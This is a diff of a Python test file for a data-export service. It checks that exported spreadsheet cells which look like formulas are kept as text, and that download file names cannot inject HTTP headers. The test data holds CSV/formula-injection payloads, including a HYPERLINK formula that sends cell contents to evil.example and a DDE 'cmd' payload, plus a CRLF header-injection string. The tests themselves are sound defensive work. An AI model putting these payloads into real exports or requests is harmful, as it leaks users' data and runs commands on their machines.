@@ -14,8 +14,14 @@ from openpyxl import load_workbook
 from services.gateway import exports
 from zhibiao.domain.cleanup import clean_pages, clean_text
 
-HOSTILE = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"报告\")", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
-           "\t=1+1", "\r=1+1"]
+HOSTILE = [
+    '=HYPERLINK("http://evil.example/?"&A1,"报告")',
+    "+1+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(A1:A9)",
+    "\t=1+1",
+    "\r=1+1",
+]
 
 
 def _rows():
@@ -42,7 +48,7 @@ def test_xlsx_cells_that_look_like_formulas_are_text():
     assert ws.cell(row=2, column=2).value == -1.5
 
 
-@pytest.mark.parametrize("name", ["series-gdp\r\nX-Injected: 1", "series-\x00\x7f\t\"a\\b\"", "series-人均GDP\n"])
+@pytest.mark.parametrize("name", ["series-gdp\r\nX-Injected: 1", 'series-\x00\x7f\t"a\\b"', "series-人均GDP\n"])
 def test_a_download_name_makes_a_header_the_server_sends(name):
     disposition = exports.download([], ("a",), fmt="csv", name=name).headers["content-disposition"]
     h11.Response(status_code=200, headers=[("Content-Disposition", disposition)])  # raises on CR, LF, NUL
